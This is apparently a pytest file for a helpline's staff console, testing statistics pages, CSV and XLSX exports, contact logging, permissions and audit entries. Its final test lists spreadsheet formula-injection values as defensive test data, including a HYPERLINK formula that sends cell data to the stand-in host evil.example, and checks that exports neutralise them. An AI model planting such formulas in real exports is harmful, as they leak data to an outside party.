"""The statistics page, its exports and the contact log, as staff use them."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

from openpyxl import load_workbook
from sqlalchemy import Engine
from sqlmodel import Session, select

from bot.db import session_scope
from bot.models import ContactRecord, StaffUser, utcnow
from bot.stats.records import LoggedContact, log_contact
from tests.stats.helpers import FIXTURE_2024, import_file
from tests.support.staff import Staff

REPORT_2024 = {  # row id: (total, monthly average) in the annual report 2024
    "line-phone": ("4,896", "408"),
    "line-chat": ("660", "55"),
    "line-email": ("819", "68"),
    "line-total": ("6,375", "531"),
}


def imported_2024(engine: Engine) -> None:
    with Session(engine) as session:
        import_file(session, FIXTURE_2024, utcnow())
        session.commit()


def row_cells(html: str, row_id: str) -> list[str]:
    row = re.search(rf'<tr[^>]*id="{row_id}"[^>]*>(.*?)</tr>', html, re.S)
    assert row, f"no row {row_id}"
    return [
        re.sub(r"<[^>]+>", "", cell).strip()
        for cell in re.findall(r"<td[^>]*>(.*?)</td>", row.group(1))
    ]


def test_the_page_shows_the_2024_report_figures(engine: Engine, alice: Staff) -> None:
    imported_2024(engine)

    page = alice.get("/console/stats?year=2024")

    assert page.status_code == 200
    for row_id, (total, avg) in REPORT_2024.items():
        cells = row_cells(page.text, row_id)
        assert len(cells) == 14  # twelve months, the total, the monthly average
        assert cells[-2:] == [total, avg]
    qa = re.search(r'id="qa-sessions".*?</div>', page.text, re.S)
    assert qa and "14" in qa.group(0)
    assert "31 participants on average, 62 at most" in qa.group(0)
    assert "<svg" in page.text and page.text.count("<rect") >= 48  # 4 bars x 12 months


def test_the_page_speaks_the_staff_members_language(engine: Engine, alice: Staff) -> None:
    imported_2024(engine)
    with Session(engine) as session:
        user = session.get(StaffUser, alice.id)
        assert user is not None
        user.locale = "nl"
        session.commit()

    page = alice.get("/console/stats?year=2024")

    assert "Statistieken" in page.text
    assert row_cells(page.text, "line-phone")[-2:] == ["4.896", "408"]


def test_a_month_and_a_range_of_days_have_their_own_columns(engine: Engine, alice: Staff) -> None:
    imported_2024(engine)

    year = alice.get("/console/stats?year=2024")
    march = alice.get("/console/stats?month=2024-03")
    spring = alice.get("/console/stats?start=2024-03-01&end=2024-05-31")

    march_cells = row_cells(march.text, "line-phone")
    assert len(march_cells) == 3
    assert march_cells[0] == row_cells(year.text, "line-phone")[2]
    spring_cells = row_cells(spring.text, "line-phone")
    assert len(spring_cells) == 5
    assert spring_cells[:3] == row_cells(year.text, "line-phone")[2:5]


def test_a_period_that_makes_no_sense_is_a_clear_400(alice: Staff) -> None:
    for query in ("year=twenty", "month=2024-13", "start=2024-05-01&end=2024-04-01", "year=1800"):
        page = alice.get(f"/console/stats?{query}")
        assert page.status_code == 400, query
        assert "Choose a year, a month, or a first and last day" in page.text


def test_exports_carry_the_report_figures(engine: Engine, alice: Staff) -> None:
    imported_2024(engine)

    report_csv = alice.get("/console/stats/report.csv?year=2024")
    report_xlsx = alice.get("/console/stats/report.xlsx?year=2024")
    contacts_csv = alice.get("/console/stats/contacts.csv?year=2024")
    contacts_xlsx = alice.get("/console/stats/contacts.xlsx?month=2024-02")

    assert 'filename="helpline-report-2024.csv"' in report_csv.headers["content-disposition"]
    rows = {(r[0], r[1]): r[-2:] for r in csv.reader(io.StringIO(report_csv.text))}
    assert rows["staff", "phone"] == ["4896", "408"]
    assert rows["staff", "total"] == ["6375", "531"]
    assert rows["qa_sessions", "participants_max"][0] == "62"
    sheet = load_workbook(io.BytesIO(report_xlsx.content), read_only=True)["Report"]
    xlsx_rows = {(r[0], r[1]): r[-2:] for r in sheet.iter_rows(values_only=True)}
    assert xlsx_rows["staff", "email"] == (819, 68)
    assert len(contacts_csv.text.strip().splitlines()) == 1 + 6389
    february = load_workbook(io.BytesIO(contacts_xlsx.content), read_only=True)["Contacts"]
    assert sum(1 for _ in february.iter_rows()) - 1 == sum(
        1 for line in contacts_csv.text.splitlines() if ",2024-02-" in line
    )


def test_statistics_need_a_logged_in_staff_member(engine: Engine, client: object) -> None:
    from fastapi.testclient import TestClient

    assert isinstance(client, TestClient)
    imported_2024(engine)
    for path in ("/console/stats", "/console/stats/contacts.csv", "/console/log"):
        response = client.get(path, follow_redirects=False, headers={"accept": "text/html"})
        assert response.status_code in (303, 401), path
        assert "4,896" not in response.text


def test_staff_log_a_phone_call_in_one_form_and_the_form_remembers_their_choices(
    engine: Engine, alice: Staff
) -> None:
    saved = alice.post(
        "/console/log",
        {"channel": "phone", "language": "uk", "topic": "asylum.apply", "minutes": "7"},
    )

    assert saved.status_code == 303
    follow = alice.get(saved.headers["location"])
    assert "Saved." in follow.text
    assert re.search(r'value="phone"\s+checked', follow.text)
    assert re.search(r'<option value="uk"\s+selected', follow.text)
    with Session(engine) as session:
        record = session.exec(select(ContactRecord)).one()
    assert (record.channel, record.language, record.topic, record.minutes) == (
        "phone",
        "uk",
        "asylum.apply",
        7,
    )
    assert record.handled_by == "staff" and record.staff_id == alice.id
    year = record.started_at.year
    stats = alice.get(f"/console/stats?year={year}")
    assert row_cells(stats.text, "line-phone")[-2] == "1"


def test_a_session_without_participants_is_refused_and_the_input_kept(
    engine: Engine, alice: Staff
) -> None:
    refused = alice.post(
        "/console/log",
        {"channel": "qa_session", "language": "uk", "place": "Gent", "day": "2024-05-02"},
    )

    assert refused.status_code == 400
    assert "A Q&amp;A session needs the number of participants." in refused.text
    assert 'value="Gent"' in refused.text
    with Session(engine) as session:
        assert session.exec(select(ContactRecord)).all() == []


def test_a_session_is_logged_with_its_date_place_and_participants(
    engine: Engine, alice: Staff
) -> None:
    alice.post(
        "/console/log",
        {
            "channel": "qa_session",
            "place": "OCMW Gent",
            "participants": "62",
            "day": "2024-05-02",
            "confirm_old": "yes",  # long ago: confirmed
        },
    )

    figures = alice.get("/console/stats?year=2024")
    qa = re.search(r'id="qa-sessions".*?</div>', figures.text, re.S)
    assert qa and "62 participants on average, 62 at most" in qa.group(0)


def test_staff_correct_their_own_entries_but_not_a_colleagues(
    engine: Engine, alice: Staff, bob: Staff, admin: Staff
) -> None:
    alice.post("/console/log", {"channel": "phone", "language": "nl"})
    with Session(engine) as session:
        record_id = session.exec(select(ContactRecord.id)).one()

    assert bob.get(f"/console/log/{record_id}").status_code == 403
    assert bob.post(f"/console/log/{record_id}/delete").status_code == 403
    corrected = alice.post(f"/console/log/{record_id}", {"channel": "email", "language": "fr"})
    assert corrected.status_code == 303
    with Session(engine) as session:
        record = session.get(ContactRecord, record_id)
        assert record is not None and (record.channel, record.language) == ("email", "fr")
    assert record_id is not None and f"/console/log/{record_id}" in admin.get("/console/log").text
    assert admin.post(f"/console/log/{record_id}/delete").status_code == 303
    with Session(engine) as session:
        assert session.get(ContactRecord, record_id) is None


def test_the_statistics_pages_run_no_inline_script(engine: Engine, alice: Staff) -> None:
    for path in ("/console/stats", "/console/log"):
        page = alice.get(path)
        assert "script-src 'self'" in page.headers["content-security-policy"]
        assert re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", page.text) == []
        assert " style=" not in page.text


def test_exporting_contact_records_is_written_to_the_audit_log(
    engine: Engine, alice: Staff
) -> None:
    from sqlmodel import Session, select

    from bot.models import AuditEntry

    assert alice.get("/console/stats/contacts.csv?month=2024-02").status_code == 200
    assert alice.get("/console/stats/contacts.xlsx?year=2024").status_code == 200
    with Session(engine) as session:
        entries = session.exec(select(AuditEntry).where(AuditEntry.action == "export")).all()
    assert [(e.target, e.detail) for e in entries] == [
        ("contact_records", "csv 2024-02-01..2024-02-29"),
        ("contact_records", "xlsx 2024-01-01..2024-12-31"),
    ]
    assert all(e.staff_id is not None for e in entries)


FORMULA_PLACES = [  # what a spreadsheet would run as a formula
    '=HYPERLINK("https://evil.example/?d="&A1,"Open the report")',
    "+32 470 00 00 00",
    "-2+3",
    "@SUM(1+1)",
]
ERROR_LIKE_PLACE = "#N/A"  # text, not a spreadsheet error


def test_exported_places_are_text_never_formulas(engine: Engine, alice: Staff) -> None:
    for place in [*FORMULA_PLACES, ERROR_LIKE_PLACE]:  # as staff type them in the console
        logged = alice.post(
            "/console/log",
            {
                "channel": "qa_session",
                "place": place,
                "participants": "12",
                "day": "2024-05-02",
                "confirm_old": "yes",
            },
        )
        assert logged.status_code == 303, logged.text
    with session_scope(engine) as session:  # the console strips these; the API does not
        for place in ("\t=1+1", "\r=1+1"):
            log_contact(
                session,
                LoggedContact(
                    channel="qa_session",
                    place=place,
                    participants=12,
                    started_at=datetime(2024, 5, 3, 12, tzinfo=UTC),
                ),
                staff_id=alice.id,
                now=utcnow(),
            )
    places = [*FORMULA_PLACES, "\t=1+1", "\r=1+1"]
    exported = sorted(["'" + place for place in places] + [ERROR_LIKE_PLACE])

    contacts_csv = alice.get("/console/stats/contacts.csv?year=2024")
    rows = list(csv.DictReader(io.StringIO(contacts_csv.text)))
    book = load_workbook(io.BytesIO(alice.get("/console/stats/contacts.xlsx?year=2024").content))
    sheet = book["Contacts"]
    header = [cell.value for cell in sheet[1]]
    cells = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]

    assert sorted(row["place"] for row in rows) == exported
    assert [row["participants"] for row in rows] == ["12"] * len(exported)
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    in_xml = [place.replace("\r", "\n") for place in exported]  # XML reads \r back as \n
    assert sorted(row["place"].value for row in cells) == sorted(in_xml)
    assert {row["place"].data_type for row in cells} == {"s"}
    assert [row["participants"].value for row in cells] == [12] * len(exported)  # numbers
    assert {type(row["id"].value) for row in cells} == {int}
